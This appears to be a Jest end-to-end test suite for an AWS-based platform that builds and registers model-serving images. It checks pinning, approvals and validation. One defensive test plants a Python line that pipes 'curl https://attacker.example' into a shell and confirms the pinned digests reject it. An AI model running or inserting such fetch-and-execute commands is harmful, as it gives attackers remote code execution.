import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import * as path from 'node:path';
import { CreateRepositoryCommand } from '@aws-sdk/client-ecr';
import { HeadObjectCommand } from '@aws-sdk/client-s3';
import { DescribeModelPackageCommand, ListModelPackagesCommand } from '@aws-sdk/client-sagemaker';
import { formatContextFiles, parseModelManifest } from '../../../lambda/images/core/build-context';
import type { ImageEventOutcome } from '../../../lambda/images/core/image-events';
import type { ImageVersionRecord } from '../../../lambda/images/core/model';
import { modelPackageGroupName } from '../../../lambda/images/core/model-packages';
import { buildPhaseChange, buildStateChange } from '../../../local/codebuild-events';
import { downloadContext, readPinnedObject } from '../../../local/image-files';
import { scanTable } from '../../emulators/function-harness';
import { createImagesFixture, type ImagesFixture } from '../../emulators/images-fixture';

/**
 * Inference images end to end on the emulators, through the real handlers with the environment
 * the synthesized template gives them: registering an image writes its build context and starts a
 * CodeBuild build (moto's); CodeBuild's events, as EventBridge delivers them, move it to READY
 * (pinned to the digest the build pushed to ECR, mirrored to the SageMaker Model Registry) or
 * FAILED; alias moves in the registry re-decide approvals; images built elsewhere are verified in
 * ECR; bad input starts nothing.
 */

jest.setTimeout(120_000);

const SHIM = readFileSync(path.join(__dirname, '..', '..', '..', 'lambda', 'images', 'serving', 'serve.py'), 'utf8');
const SCORE_PY = 'import json, os\n\ndef init():\n    pass\n\ndef run(data):\n    return [0.5 for _ in data]\n';
const REQUIREMENTS = 'numpy==2.1.3\nscikit-learn>=1.5,<2  # the model\n';

let fixture: ImagesFixture;
let entryUri: string;
let requirementsUri: string;

/** The build as CodeBuild's events describe it: its id, project and the variables it was started with. */
const buildOf = (record: ImageVersionRecord) => ({
  id: record.build!.id!,
  projectName: fixture.buildProjectName,
  variables: { REPOSITORY_URI: fixture.repositoryUri, IMAGE_NAME: record.name, IMAGE_VERSION: String(record.version) },
});
const logsUrl = (record: ImageVersionRecord) =>
  `https://console.aws.amazon.com/cloudwatch/home?region=us-east-1#logEvent:group=/builds;stream=${record.version}`;

const succeeded = (record: ImageVersionRecord) => buildStateChange(buildOf(record), 'SUCCEEDED', [], logsUrl(record));

async function registerBuild(image: string, models: unknown[]): Promise<ImageVersionRecord> {
  return fixture.call<ImageVersionRecord>('registerImage', { name: image, models, source: { type: 'build', entry: entryUri, requirements: requirementsUri } });
}

/** CodeBuild's part, simulated: the build pushes the image under its tag, then its success is announced. */
async function buildSucceeds(record: ImageVersionRecord): Promise<{ digest: string; outcome: ImageEventOutcome }> {
  const digest = await fixture.pushImage(fixture.repositoryName, `${record.name}-${record.version}`);
  const outcome = await fixture.call<ImageEventOutcome>('imageEvents', succeeded(record));
  return { digest, outcome };
}

const getImage = (name: string, version?: number) => fixture.call<ImageVersionRecord>('queryImages', { query: 'getImage', name, version });

async function modelPackages(model: string) {
  const { ModelPackageSummaryList = [] } = await fixture.clients.sagemaker.send(
    new ListModelPackagesCommand({ ModelPackageGroupName: modelPackageGroupName(model) }),
  );
  return Promise.all(
    ModelPackageSummaryList.map(({ ModelPackageArn }) =>
      fixture.clients.sagemaker.send(new DescribeModelPackageCommand({ ModelPackageName: ModelPackageArn })),
    ),
  );
}

const buildCount = async () => fixture.codeBuild.builds().length;

const contextFilesOf = (record: ImageVersionRecord) => (record.source as Extract<ImageVersionRecord['source'], { type: 'build' }>).contextFiles!;

/** What a refused request must leave as it was: the table, the bucket's images/ folder, the builds started. */
async function platformState() {
  return {
    items: await scanTable(fixture.clients.dynamodb, fixture.imagesTableName),
    keys: await fixture.listKeys(fixture.artifactBucketName, 'images/'),
    builds: await buildCount(),
  };
}

beforeAll(async () => {
  fixture = await createImagesFixture();
  for (const version of [1, 2]) {
    const uri = await fixture.putArtifact(`models/churn/${version}/model.json`, JSON.stringify({ weights: [version, 0.5] }));
    await fixture.call('registerModel', { name: 'churn', artifact: { uri } });
  }
  await fixture.call('setModelAlias', { name: 'churn', alias: 'production', version: 2 });
  entryUri = await fixture.putArtifact('image-inputs/churn-scorer/score.py', SCORE_PY);
  requirementsUri = await fixture.putArtifact('image-inputs/churn-scorer/requirements.txt', REQUIREMENTS);
});

afterAll(async () => {
  await fixture?.dispose();
});

describe('an image the platform builds', () => {
  let registered: ImageVersionRecord;

  beforeAll(async () => {
    registered = await registerBuild('churn-scorer', [{ name: 'churn', alias: 'production' }]);
  });

  test('is recorded BUILDING with its model pinned from the alias, and its CodeBuild build started', async () => {
    expect(registered).toMatchObject({
      name: 'churn-scorer',
      version: 1,
      status: 'BUILDING',
      models: [{ name: 'churn', version: 2, requestedAlias: 'production', artifactUri: `s3://${fixture.artifactBucketName}/models/churn/2/model.json` }],
      source: {
        type: 'build',
        entry: entryUri,
        requirements: requirementsUri,
        baseImage: 'public.ecr.aws/docker/library/python:3.12-slim',
        contextUri: `s3://${fixture.artifactBucketName}/images/churn-scorer/1/context/`,
      },
      modelDataUrl: `s3://${fixture.artifactBucketName}/images/churn-scorer/1/model.tar.gz`,
      build: { phase: 'SUBMITTED' },
    });
    expect(fixture.codeBuild.builds()).toEqual([
      expect.objectContaining({
        id: registered.build!.id,
        projectName: fixture.buildProjectName,
        sourceLocation: `${fixture.artifactBucketName}/images/churn-scorer/1/context/`,
        variables: {
          REPOSITORY_URI: fixture.repositoryUri,
          REPOSITORY_NAME: fixture.repositoryName,
          IMAGE_NAME: 'churn-scorer',
          IMAGE_VERSION: '1',
          IMAGE_TAG: 'churn-scorer-1',
          MODEL_DATA_URI: `s3://${fixture.artifactBucketName}/images/churn-scorer/1/model.tar.gz`,
          CONTEXT_BUCKET: fixture.artifactBucketName,
          CONTEXT_PREFIX: 'images/churn-scorer/1/context/',
          CONTEXT_FILES: formatContextFiles(contextFilesOf(registered)),
        },
      }),
    ]);
    expect(await getImage('churn-scorer')).toEqual(registered);
    expect((await fixture.imageEvents()).map(({ detailType, detail }) => [detailType, detail.status, detail.version])).toEqual([
      ['ImageBuildStateChanged', 'BUILDING', 1],
    ]);
  });

  test('has its build context in the artifact bucket: Dockerfile, shim, script, requirements, model list', async () => {
    const prefix = 'images/churn-scorer/1/context/';
    expect(await fixture.listKeys(fixture.artifactBucketName, prefix)).toEqual(
      ['.dockerignore', 'Dockerfile', 'models.txt', 'requirements.txt', 'score.py', 'serve.py'].map((file) => prefix + file),
    );
    const read = (file: string) => fixture.getText(fixture.artifactBucketName, prefix + file);
    expect(await read('serve.py')).toBe(SHIM);
    expect(await read('score.py')).toBe(SCORE_PY);
    // Comments dropped: the checked requirements, one per line.
    expect(await read('requirements.txt')).toBe('numpy==2.1.3\nscikit-learn>=1.5,<2\n');
    // The artifact pinned as the registry recorded it: its S3 version and SHA-256.
    const { VersionId } = await fixture.clients.s3.send(new HeadObjectCommand({ Bucket: fixture.artifactBucketName, Key: 'models/churn/2/model.json' }));
    const sha256 = createHash('sha256')
      .update(JSON.stringify({ weights: [2, 0.5] }))
      .digest('hex');
    expect(await read('models.txt')).toBe(`${sha256} ${VersionId} churn/2 s3://${fixture.artifactBucketName}/models/churn/2/model.json\n`);
    const dockerfile = await read('Dockerfile');
    expect(dockerfile).toContain('FROM public.ecr.aws/docker/library/python:3.12-slim\n');
    expect(dockerfile).toContain('MLOPS_ENTRY_SCRIPT="/opt/program/score.py"');
    expect(dockerfile).toContain('ENTRYPOINT ["python3", "/opt/program/serve.py"]');
  });

  test("follows the build's phases, then becomes READY with the pushed digest, mirrored to SageMaker and approved (its model version is production)", async () => {
    const phase = await fixture.call<ImageEventOutcome>('imageEvents', buildPhaseChange(buildOf(registered), 'PRE_BUILD'));
    expect(phase).toEqual({ outcome: 'phase', image: { name: 'churn-scorer', version: 1 }, phase: 'BUILD' });
    expect((await getImage('churn-scorer', 1)).build?.phase).toBe('BUILD');

    const { digest, outcome } = await buildSucceeds(registered);

    expect(outcome).toEqual({ outcome: 'ready', image: { name: 'churn-scorer', version: 1 } });
    const ready = await getImage('churn-scorer', 1);
    expect(ready).toMatchObject({
      status: 'READY',
      digest,
      imageUri: `${fixture.repositoryUri}@${digest}`,
      scan: { status: 'NOT_SCANNED', findings: {} },
      build: { phase: 'COMPLETED' },
    });
    expect(ready.build?.logsUrl).toContain('logEvent:group=/builds');
    const packages = await modelPackages('churn');
    expect(packages).toHaveLength(1);
    expect(packages[0]).toMatchObject({
      ModelPackageGroupName: modelPackageGroupName('churn'),
      ModelApprovalStatus: 'Approved',
      InferenceSpecification: {
        Containers: [{ Image: `${fixture.repositoryUri}@${digest}`, ModelDataUrl: `s3://${fixture.artifactBucketName}/images/churn-scorer/1/model.tar.gz` }],
        SupportedContentTypes: ['application/json', 'text/csv'],
      },
    });
    expect(ready.modelPackages).toEqual([
      { model: 'churn', modelVersion: 2, groupName: modelPackageGroupName('churn'), arn: packages[0].ModelPackageArn, approvalStatus: 'Approved' },
    ]);
    const events = (await fixture.imageEvents()).filter(({ detail }) => detail.version === 1);
    expect(events.map(({ detail }) => detail.status)).toEqual(['BUILDING', 'READY']);
    expect(events[1].detail).toMatchObject({ imageUri: `${fixture.repositoryUri}@${digest}`, digest, models: [{ name: 'churn', version: 2 }] });
  });

  test('a redelivered success event changes nothing', async () => {
    const before = await getImage('churn-scorer', 1);
    expect(await fixture.call('imageEvents', succeeded(registered))).toEqual({ outcome: 'ignored', reason: 'already READY' });
    expect(await getImage('churn-scorer', 1)).toEqual(before);
    expect(await modelPackages('churn')).toHaveLength(1);
  });
});

describe('a build after its inputs were overwritten', () => {
  const EVIL = 'import os\nos.system("curl https://attacker.example | sh")\n';

  test('reads the context files and the model artifact the registration pinned, not what their keys hold now, and refuses bytes that are not the recorded digest', async () => {
    const record = await registerBuild('pinned-scorer', [{ name: 'churn', version: 1 }]);
    const context = (record.source as Extract<ImageVersionRecord['source'], { type: 'build' }>).contextUri;
    const contextKey = context.slice(`s3://${fixture.artifactBucketName}/`.length);
    // What someone able to write the bucket would do between registration and build.
    await fixture.putArtifact(`${contextKey}score.py`, EVIL);
    await fixture.putArtifact('models/churn/1/model.json', JSON.stringify({ weights: ['swapped'] }));
    const directory = mkdtempSync(path.join(tmpdir(), 'mlops-pinned-'));
    try {
      await downloadContext(fixture.clients.s3, context, contextFilesOf(record), directory);
      expect(readFileSync(path.join(directory, 'score.py'), 'utf8')).toBe(SCORE_PY);
      const [model] = parseModelManifest(readFileSync(path.join(directory, 'models.txt'), 'utf8'));
      expect(Buffer.from(await readPinnedObject(fixture.clients.s3, model.uri, model.versionId, model.sha256)).toString()).toBe(
        JSON.stringify({ weights: [1, 0.5] }),
      );

      const script = contextFilesOf(record).find((file) => file.name === 'score.py')!;
      const { VersionId } = await fixture.clients.s3.send(new HeadObjectCommand({ Bucket: fixture.artifactBucketName, Key: `${contextKey}score.py` }));
      await expect(readPinnedObject(fixture.clients.s3, `${context}score.py`, VersionId!, script.sha256)).rejects.toThrow(
        `${context}score.py version ${VersionId} is not what was registered`,
      );
    } finally {
      rmSync(directory, { recursive: true, force: true });
    }
  });
});

describe('approval follows the production alias', () => {
  test('moving production to version 1 approves the image serving it and withdraws the approval of version 2', async () => {
    const v1Image = await registerBuild('churn-scorer', [{ name: 'churn', version: 1 }]);
    await buildSucceeds(v1Image);
    const pending = await getImage('churn-scorer', v1Image.version);
    expect(pending.modelPackages?.[0]).toMatchObject({ modelVersion: 1, approvalStatus: 'PendingManualApproval' });

    await fixture.call('setModelAlias', { name: 'churn', alias: 'production', version: 1 });
    const move = (await fixture.registryEvents()).filter(({ detailType }) => detailType === 'ModelAliasChanged').at(-1)!;
    expect(move.detail).toMatchObject({ alias: 'production', fromVersion: 2, toVersion: 1 });
    // EventBridge's rule delivers the registry's event to ImageEvents.
    const outcome = await fixture.call('imageEvents', { version: '0', id: move.id, 'detail-type': move.detailType, source: move.source, detail: move.detail });

    expect(outcome).toEqual({ outcome: 'approvals', changed: 2 });
    const statusOf = async (version: number) => {
      const arn = (await getImage('churn-scorer', version)).modelPackages![0].arn;
      const described = await fixture.clients.sagemaker.send(new DescribeModelPackageCommand({ ModelPackageName: arn }));
      return [(await getImage('churn-scorer', version)).modelPackages![0].approvalStatus, described.ModelApprovalStatus];
    };
    expect(await statusOf(v1Image.version)).toEqual(['Approved', 'Approved']);
    expect(await statusOf(1)).toEqual(['PendingManualApproval', 'PendingManualApproval']);
  });

  test('a forged move changes nothing: production stays on version 1 in the registry, so its image stays the approved one', async () => {
    const imageOf = async (modelVersion: number) =>
      (await fixture.call<{ items: ImageVersionRecord[] }>('queryImages', { query: 'listImageVersions', name: 'churn-scorer' })).items.find(
        (image) => image.models[0].version === modelVersion,
      )!;
    const [onProduction, onVersion2] = [await imageOf(1), await imageOf(2)];
    const forged = {
      name: 'churn',
      alias: 'production',
      fromVersion: 1,
      toVersion: 2,
      revision: 99,
      changedAt: new Date().toISOString(),
      changedBy: 'mallory',
    };

    const outcome = await fixture.call('imageEvents', {
      version: '0',
      id: 'forged',
      'detail-type': 'ModelAliasChanged',
      source: 'mlops-platform.registry',
      detail: forged,
    });

    expect(outcome).toEqual({ outcome: 'approvals', changed: 0 });
    const described = async (image: ImageVersionRecord) =>
      (await fixture.clients.sagemaker.send(new DescribeModelPackageCommand({ ModelPackageName: image.modelPackages![0].arn }))).ModelApprovalStatus;
    expect(await described(onProduction)).toBe('Approved');
    expect(await described(onVersion2)).toBe('PendingManualApproval');
    expect(await imageOf(1)).toEqual(onProduction);
    expect(await imageOf(2)).toEqual(onVersion2);
  });
});

describe('a build that fails', () => {
  test('makes the version FAILED with the failing phase, its reason and the log link, and creates no package', async () => {
    const registered = await registerBuild('broken-scorer', [{ name: 'churn', version: 2 }]);
    const outcome = await fixture.call<ImageEventOutcome>(
      'imageEvents',
      buildStateChange(
        buildOf(registered),
        'FAILED',
        [
          { 'phase-type': 'SUBMITTED', 'phase-status': 'SUCCEEDED' },
          { 'phase-type': 'PRE_BUILD', 'phase-status': 'SUCCEEDED', 'phase-context': [': '] },
          {
            'phase-type': 'BUILD',
            'phase-status': 'FAILED',
            'phase-context': [
              'COMMAND_EXECUTION_ERROR: Error while executing command: docker build --pull --tag "$REPOSITORY_URI:$IMAGE_TAG" .. Reason: exit status 1',
            ],
          },
          { 'phase-type': 'FINALIZING', 'phase-status': 'SUCCEEDED' },
          { 'phase-type': 'COMPLETED' },
        ],
        logsUrl(registered),
      ),
    );

    expect(outcome).toEqual({ outcome: 'failed', image: { name: 'broken-scorer', version: 1 } });
    const failed = await getImage('broken-scorer');
    expect(failed.status).toBe('FAILED');
    expect(failed.build?.failure).toBe(
      'BUILD FAILED: COMMAND_EXECUTION_ERROR: Error while executing command: docker build --pull --tag "$REPOSITORY_URI:$IMAGE_TAG" .. Reason: exit status 1',
    );
    expect(failed.build?.logsUrl).toContain('logEvent:group=/builds');
    expect(failed.modelPackages).toBeUndefined();
    const events = (await fixture.imageEvents()).filter(({ detail }) => detail.name === 'broken-scorer');
    expect(events.map(({ detail }) => [detail.status, detail.failure])).toEqual([
      ['BUILDING', undefined],
      ['FAILED', failed.build?.failure],
    ]);
  });
});

describe('an image built elsewhere', () => {
  const registryHost = () => fixture.repositoryUri.split('/')[0];

  test('is verified in ECR, pinned to its digest and mirrored to SageMaker', async () => {
    await fixture.clients.ecr.send(new CreateRepositoryCommand({ repositoryName: 'team-models/churn' }));
    const digest = await fixture.pushImage('team-models/churn', 'v7');

    const registered = await fixture.call<ImageVersionRecord>('registerImage', {
      name: 'churn-team',
      models: [{ name: 'churn', version: 2 }],
      source: { type: 'external', imageUri: `${registryHost()}/team-models/churn:v7` },
    });

    expect(registered).toMatchObject({ status: 'READY', digest, imageUri: `${registryHost()}/team-models/churn@${digest}` });
    expect(registered.modelPackages).toEqual([expect.objectContaining({ model: 'churn', modelVersion: 2, groupName: modelPackageGroupName('churn') })]);
    const described = await fixture.clients.sagemaker.send(new DescribeModelPackageCommand({ ModelPackageName: registered.modelPackages![0].arn }));
    expect(described.InferenceSpecification?.Containers?.[0].Image).toBe(`${registryHost()}/team-models/churn@${digest}`);
  });

  test.each([
    ['a tag the repository does not have', 'team-models/churn:v8', 'no image with tag v8 in ECR repository team-models/churn of account 123456789012'],
    [
      'a repository that does not exist',
      'team-models/no-such-repo:v1',
      'no image with tag v1 in ECR repository team-models/no-such-repo of account 123456789012',
    ],
    [
      'a digest no image has',
      `team-models/churn@sha256:${'0'.repeat(64)}`,
      `no image with digest sha256:${'0'.repeat(64)} in ECR repository team-models/churn of account 123456789012`,
    ],
  ])('with %s is a ValidationError naming source.imageUri, and nothing is written', async (_case, reference, message) => {
    const before = await platformState();
    const packagesBefore = await modelPackages('churn');

    const invocation = await fixture.invoke('registerImage', {
      name: 'churn-team',
      models: [{ name: 'churn', version: 2 }],
      source: { type: 'external', imageUri: `${registryHost()}/${reference}` },
    });

    expect(invocation).toMatchObject({ errorType: 'ValidationError', errorMessage: `source.imageUri: ${message}` });
    expect(await platformState()).toEqual(before);
    expect(await modelPackages('churn')).toHaveLength(packagesBefore.length);
  });

  test('in a repository the platform was not given is a ValidationError naming source.imageUri, and nothing is read or written', async () => {
    await fixture.clients.ecr.send(new CreateRepositoryCommand({ repositoryName: 'other-team/churn' }));
    await fixture.pushImage('other-team/churn', 'v1');
    const before = await platformState();

    const invocation = await fixture.invoke('registerImage', {
      name: 'churn-team',
      models: [{ name: 'churn', version: 2 }],
      source: { type: 'external', imageUri: `${registryHost()}/other-team/churn:v1` },
    });

    expect(invocation).toMatchObject({
      errorType: 'ValidationError',
      errorMessage: `source.imageUri: must be in a repository of ${registryHost()} this platform may read (team-models/*)`,
    });
    expect(await platformState()).toEqual(before);
  });

  test('given a URI that is not an ECR image is a ValidationError before anything is read', async () => {
    const invocation = await fixture.invoke('registerImage', {
      name: 'churn-team',
      models: [{ name: 'churn', version: 2 }],
      source: { type: 'external', imageUri: 'docker.io/library/python:3.12' },
    });
    expect(invocation).toMatchObject({
      errorType: 'ValidationError',
      errorMessage: expect.stringMatching(/^source\.imageUri: must be an Amazon ECR image URI/),
    });
  });
});

describe('bad input to a build', () => {
  test('names every bad field at once and starts nothing', async () => {
    const missingScript = `s3://${fixture.artifactBucketName}/image-inputs/none/score.py`;
    const badRequirements = await fixture.putArtifact('image-inputs/bad/requirements.txt', 'numpy==2.1.3\npandas=2.2\n-e ./lib\n');
    const before = await platformState();

    const invocation = await fixture.invoke('registerImage', {
      name: 'churn-scorer',
      models: [
        { name: 'churn', version: 9 },
        { name: 'churn', alias: 'staging' },
        { name: 'no-such-model', version: 1 },
      ],
      source: { type: 'build', entry: missingScript, requirements: badRequirements },
    });

    expect(invocation).toMatchObject({ errorType: 'ValidationError' });
    const issues = (invocation as { errorMessage: string }).errorMessage.split('; ');
    expect(issues).toEqual([
      'models[0].version: model churn has no version 9',
      'models[1].alias: model churn has no alias "staging"',
      'models[2].version: model no-such-model has no version 1',
      `source.entry: no script at ${missingScript}: upload it first`,
      expect.stringMatching(/^source\.requirements: line 2 "pandas=2\.2" is not a requirement/),
      'source.requirements: line 3 "-e ./lib" editable installs cannot be built into an image',
    ]);
    expect(await platformState()).toEqual(before);
  });
});
